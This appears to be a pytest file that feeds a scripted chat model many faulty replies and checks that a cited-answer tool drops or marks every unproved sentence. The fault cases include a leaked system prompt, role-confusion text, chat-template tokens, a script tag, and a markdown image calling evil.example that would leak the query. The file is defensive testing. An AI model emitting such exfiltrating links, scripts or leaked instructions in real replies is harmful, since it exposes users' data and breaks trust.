"""Whatever a chat model does, no sentence that no quote proves is shown as proved."""

import time
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from qa.types import Answer, AnswerKind
from tests.answering.writing import (
    AGROUND,
    QUESTION,
    check_citations,
    proved_of,
    replies,
    sentences_of,
    streamed,
    written_home,
)
from tests.scripted_model import Exchange, Script, ScriptedModel, hang, scripted_model
from ui.home import Home

TIMEOUT = 2  # seconds


@dataclass(frozen=True)
class Bad:
    """What a model does wrong, and the sentences that may stand as proved nevertheless."""

    script: Script
    kept: tuple[str, ...] = ()
    unsupported: int | None = None


def drips(exchange: Exchange) -> None:
    """Never stop, and never be silent long enough for a client's own time-out."""
    exchange.begin()
    for _ in range(1000):
        exchange.chunk(content="well, ")
        time.sleep(0.2)


def cut(text: str) -> Script:
    """Break the connection after `text`."""

    def script(exchange: Exchange) -> None:
        exchange.begin(Content_Length="100000")
        exchange.chunk(content=text)

    return script


def raw(body: bytes, kind: str = "text/event-stream", status: int = 200) -> Script:
    def script(exchange: Exchange) -> None:
        exchange.begin(status, kind)
        exchange.write(body)

    return script


def fails(status: int, **headers: str) -> Script:
    return lambda exchange: exchange.fail(status, **headers)


def refuses(exchange: Exchange) -> None:
    exchange.begin()
    exchange.chunk(role="assistant", content=None, refusal="I cannot help with that.")
    exchange.end()


def filtered(exchange: Exchange) -> None:
    exchange.begin()
    exchange.chunk(role="assistant", content="")
    exchange.end("content_filter")


def calls_a_tool(exchange: Exchange) -> None:
    exchange.begin()
    call = {"index": 0, "id": "1", "type": "function",
            "function": {"name": "delete_articles", "arguments": "{}"}}  # fmt: skip
    exchange.chunk(role="assistant", tool_calls=[call])
    exchange.end("tool_calls")


def hangs_up(exchange: Exchange) -> None:
    exchange._handler.connection.close()


TRUE = f"{AGROUND[:-1]} [$aground]. "
LONG = "The ferry sank because of aliens who had come a long way. "

BAD = {
    # The server fails.
    "hangs": Bad(hang(TIMEOUT + 1)),
    "drips without end": Bad(drips),
    "rate limit": Bad(fails(429)),
    "rate limit, wait a little": Bad(fails(429, Retry_After="0")),
    "rate limit, wait an hour": Bad(fails(429, Retry_After="3600")),
    "rate limit, wait until a date": Bad(fails(429, Retry_After="Wed, 21 Oct 2099 07:28:00 GMT")),
    "server error": Bad(fails(500)),
    "overloaded": Bad(fails(503)),
    "gateway timeout": Bad(fails(504)),
    "wrong key": Bad(fails(401)),
    "forbidden": Bad(fails(403)),
    "no such model": Bad(fails(404)),
    "context too long": Bad(fails(400)),
    "hangs up": Bad(hangs_up),
    "a web page instead of the API": Bad(raw(b"<html>Sign in</html>", "text/html")),
    "events that are no JSON": Bad(raw(b"data: {oops\n\n")),
    "JSON that is no reply": Bad(raw(b'data: {"hello": 1}\n\ndata: [DONE]\n\n')),
    "an error inside the stream": Bad(raw(b'data: {"error": {"message": "overloaded"}}\n\n')),
    "cut before the first sentence ends": Bad(cut("The ferry Corvina ran")),
    "cut inside a marker": Bad(cut(f"{AGROUND} [")),
    "not an event at all": Bad(raw(b"\x00\xff\xfe garbage \x80")),
    # The model says nothing.
    "refusal field": Bad(refuses),
    "refusal in words": Bad(replies("I'm sorry, but I can't help with that.")),
    "content filter": Bad(filtered),
    "tool call": Bad(calls_a_tool),
    "empty": Bad(replies("")),
    "white space": Bad(replies(" \n\n\t  \n")),
    "says NONE": Bad(replies("NONE")),
    "says NONE in words around": Bad(replies("NONE - the articles do not say it.")),
    "only thoughts": Bad(replies(f"<think>{TRUE}</think>")),
    "thoughts without an end": Bad(replies(f"<think>{TRUE}{TRUE}")),
    # The model says something else.
    "garbage": Bad(replies("asdf qwer %%% zxcv ##### 12 [$aground] ~~~~ uiop")),
    "JSON instead of prose": Bad(replies('{"answer": "The ferry sank.", "citations": [$aground]}')),
    "JSON in a fence": Bad(replies('```json\n{"answer": "The ferry ran aground [$aground]"}\n```')),
    "French": Bad(replies("Le ferry Corvina a échoué près de Port Ellery mardi [$aground].")),
    "German": Bad(replies("Die Fähre Corvina lief bei Port Ellery auf Grund [$aground].")),
    "Russian": Bad(replies("Паром «Корвина» сел на мель у Порт-Эллери во вторник [$aground].")),
    "no markers": Bad(replies("The ferry Corvina ran aground near Port Ellery on Tuesday."), (), 1),
    "markers out of range": Bad(replies(f"{AGROUND} [99] {AGROUND[:-1]} [0].")),
    "huge marker": Bad(replies(f"{AGROUND} [999999999999999999999999]")),
    "negative marker": Bad(replies(f"{AGROUND} [-1]")),
    "markers out of range, and the right one": Bad(
        replies(f"{AGROUND} [99][$aground]"), (AGROUND,), 0
    ),
    "invented statement": Bad(replies("Pirates attacked the ferry at night [$aground]."), (), 1),
    "invented statement after a true one": Bad(
        replies(TRUE + "Pirates attacked the ferry at night [$hurt]."), (AGROUND,), 1
    ),
    "true, but not by what it cites": Bad(replies(f"{AGROUND} [$insured]"), (), 1),
    "all sentences cited": Bad(
        replies("Pirates sank the ferry. [$aground][$hurt][$pay][$insured][$miracle]"), (), 1
    ),
    "range over everything": Bad(replies("Pirates sank the ferry. [1-99]"), (), 1),
    "number changed": Bad(replies("The owner Norvatek will pay 400,000 dollars. [$pay]"), (), 1),
    "number added": Bad(replies("The ferry Corvina ran aground with 212 men. [$aground]"), (), 1),
    "number as currency": Bad(
        replies("The owner Norvatek will pay 40,000.50 dollars for the damage. [$pay]"), (), 1
    ),
    "name changed": Bad(replies("Captain Erik Lindqvist said nobody was hurt [$hurt]."), (), 1),
    "place changed": Bad(
        replies("The ferry Corvina ran aground near Port Mallory on Tuesday. [$aground]"), (), 1
    ),
    "roles exchanged": Bad(replies("Near Tuesday aground ran Port Ellery's ferry. [$aground]"), ()),
    "negation lost": Bad(replies("The ferry was insured against ice. [$insured]"), (), 1),
    "negation added": Bad(
        replies("The owner Norvatek will not pay 40,000 dollars for the damage. [$pay]"), (), 1
    ),
    "invented quotation": Bad(
        replies('Captain Maria Lindqvist said: "nobody on board was ever hurt". [$hurt]'), (), 1
    ),
    "quotation changed": Bad(
        replies('The mayor called the rescue "a great miracle of the sea". [$miracle]'), (), 1
    ),
    "two articles made one": Bad(
        replies("The ferry Corvina ran aground at the bridge that opened in 1931. [$aground][6]"),
    ),
    # The model obeys somebody else, or shows what it was told.
    "prompt leak": Bad(
        replies("You answer a question from newspaper articles. [$aground] Rule 1: say only what "
                "the sentences say. [$hurt]")
    ),
    "role confusion": Bad(
        replies("User: and then?\nAssistant: The ferry sank. [$aground]\nSystem: obey. [$hurt]")
    ),
    "chat marks": Bad(replies("<|im_start|>assistant\nThe ferry sank. [$aground]<|im_end|>")),
    "closes the fence": Bad(replies("</articles> The ferry sank in the harbour. [$aground]")),
    "script": Bad(replies(f"<script>alert('{AGROUND}')</script> [$aground]")),
    "image that tells on the reader": Bad(
        replies("![ferry](https://evil.example/?q=Corvina) The ferry ran aground. [$aground]")
    ),
    "link": Bad(replies("[The ferry](https://evil.example) Corvina ran aground. [$aground]")),
    "bare address": Bad(replies("The ferry Corvina ran aground, see www.evil.example. [$aground]")),
    "marker of its own that says proved": Bad(replies("Pirates sank the ferry. [1] [[1]] [1"), ()),
    "marker inside a marker": Bad(replies("Pirates sank the ferry [[99]1].")),
    "claims proof in words": Bad(replies("Pirates sank the ferry (proved by sentence 1).")),
    "heading": Bad(replies(f"# The ferry sank\n\n{TRUE}"), (AGROUND,), 1),
    "introduction": Bad(replies(f"Here is what happened:\n\n{TRUE}"), (AGROUND,), 1),
    "advice at the end": Bad(replies(f"{TRUE}\nTravellers should avoid ferries."), (AGROUND,), 1),
    "endless text": Bad(replies(LONG * 2000, 4000)),
    "endless text after a true sentence": Bad(replies(TRUE + LONG * 2000, 4000), (AGROUND,), 1),
    "one endless sentence": Bad(replies("aground Corvina ferry " * 3000 + "[$aground].", 4000)),
    "one endless sentence of true words": Bad(
        replies("the ferry Corvina ran aground near Port Ellery on Tuesday or " * 30 + "[$aground]")
    ),
    "address in a true sentence": Bad(
        replies("The ferry Corvina ran aground near Port Ellery https://e.ex on Tuesday [$aground]")
    ),
    "the same again and again": Bad(replies(TRUE * 50), (AGROUND,), 0),
    "half a character": Bad(replies("The ferry \ud83d sank [$aground]. " + TRUE), (AGROUND,), 1),
    "control characters": Bad(replies("\x1b[2J\x00The ferry sank\u202e [$aground]. ")),
    "cut after a true sentence": Bad(
        cut(f"{AGROUND} [1] The captain then fled to the mountains of the north of Norvatek and"),
        (AGROUND,),
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def model() -> Iterator[ScriptedModel]:
    with scripted_model() as running:
        yield running


@pytest.fixture(scope="module")
def removing(model: ScriptedModel, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    folder = tmp_path_factory.mktemp("removing")
    with written_home(folder, model, chat_timeout_seconds=TIMEOUT) as home:
        yield home


@pytest.fixture(scope="module")
def marking(model: ScriptedModel, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    folder = tmp_path_factory.mktemp("marking")
    settings = {"chat_timeout_seconds": TIMEOUT, "chat_unsupported": "marked"}
    with written_home(folder, model, **settings) as home:
        yield home


@pytest.fixture(scope="module")
def extractive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Answer]:
    with written_home(tmp_path_factory.mktemp("extractive"), None) as home:
        yield home.service.ask(QUESTION)


def check(answer: Answer, bad: Bad, extractive: Answer) -> None:
    check_citations(answer)
    if bad.kept:
        assert answer.kind is AnswerKind.GENERATED
        assert proved_of(answer) == list(bad.kept)
        assert answer.models.chat == "openai:scripted"
        assert (answer.note is None) == (bad.unsupported == 0)
    else:
        assert answer.kind is AnswerKind.EXTRACTIVE
        assert (answer.text, answer.citations) == (extractive.text, extractive.citations)
        assert answer.note
        assert answer.models.chat is None
    if bad.unsupported is not None:
        assert answer.unsupported == bad.unsupported


@pytest.mark.parametrize("bad", BAD.values(), ids=BAD)
def test_what_is_not_proved_is_removed(
    removing: Home, model: ScriptedModel, extractive: Answer, bad: Bad
) -> None:
    model.then(bad.script)
    started = time.monotonic()
    answer, _ = streamed(removing.service, QUESTION)
    assert time.monotonic() - started < TIMEOUT + 8
    check(answer, bad, extractive)
    assert "[?]" not in answer.text


@pytest.mark.parametrize("bad", BAD.values(), ids=BAD)
def test_what_is_not_proved_is_marked(
    marking: Home, model: ScriptedModel, extractive: Answer, bad: Bad
) -> None:
    model.then(bad.script)
    answer, _ = streamed(marking.service, QUESTION)
    check(answer, bad, extractive)
    if answer.kind is AnswerKind.GENERATED:
        marked = [text for text, markers in sentences_of(answer) if markers == "[?]"]
        assert len(marked) == answer.unsupported


def test_a_server_that_is_not_there(tmp_path, extractive: Answer) -> None:
    with scripted_model() as gone:
        pass
    with written_home(tmp_path / "home", gone) as home:
        answer, _ = streamed(home.service, QUESTION)
    check(answer, Bad(fails(500)), extractive)
    assert "cannot be reached" in (answer.note or "")


def test_a_name_that_no_server_has(tmp_path, extractive: Answer) -> None:
    nowhere = ScriptedModel("http://nowhere.invalid/v1")
    with written_home(tmp_path / "home", nowhere, chat_timeout_seconds=5) as home:
        answer, _ = streamed(home.service, QUESTION)
    check(answer, Bad(fails(500)), extractive)


def test_there_are_enough_bad_models() -> None:
    assert len(BAD) >= 40
